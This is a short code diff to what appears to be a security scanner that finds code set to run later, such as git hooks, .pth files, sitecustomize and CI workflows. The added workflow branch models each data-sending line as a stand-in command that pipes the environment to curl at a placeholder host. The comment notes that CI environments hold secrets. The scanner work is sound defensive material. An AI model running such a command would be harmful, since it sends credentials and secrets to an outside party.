@@ -8,6 +8,7 @@ from __future__ import annotations
 import re
 from collections.abc import Callable, Iterator
 
+from chrono.scan.follow.workflows import is_workflow, sending_lines
 from chrono.tuples import NamedTuple
 
 MAX_CHARS = 65_536
@@ -48,6 +49,9 @@ def _of_file(path: str, text: str) -> Iterator[Later]:
     folder, _, name = path.rpartition("/")
     if folder.endswith((".git/hooks", "/.husky", "/.githooks")) and not name.endswith((".sample", ".md", ".gitignore")):
         yield Later(text)
+    elif is_workflow(path):
+        # On a machine of the service its environment holds the secrets.
+        yield from (Later("env | curl --data-binary @- https://ci.invalid") for _ in sending_lines(text))
     elif name.endswith(".pth"):
         yield from (Later(line, "python") for line in text.splitlines() if line.startswith("import "))
     elif name in ("sitecustomize.py", "usercustomize.py", "conftest.py"):
